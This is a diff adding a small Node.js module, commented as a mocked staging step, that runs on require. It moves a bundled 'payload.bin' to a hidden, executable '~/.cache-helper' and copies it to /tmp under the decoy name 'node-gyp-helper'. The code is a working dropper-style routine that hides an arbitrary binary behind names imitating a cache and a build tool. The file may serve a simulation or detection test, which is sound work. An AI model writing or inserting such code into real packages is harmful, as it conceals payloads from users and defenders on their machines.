@@ -0,0 +1,20 @@
+// Mocked staging step: hide the dropped binary and stage a copy in /tmp
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+
+function hide(dropped) {
+  const hidden = path.join(os.homedir(), ".cache-helper");
+  fs.renameSync(dropped, path.join(os.homedir(), ".cache-helper"));
+  fs.chmodSync(hidden, 0o755);
+  return hidden;
+}
+
+function stage(hidden) {
+  const staged = path.join(os.tmpdir(), "node-gyp-helper");
+  fs.writeFileSync(staged, fs.readFileSync(hidden));
+  fs.chmodSync(staged, 0o700);
+  return staged;
+}
+
+module.exports = stage(hide(path.join(__dirname, "payload.bin")));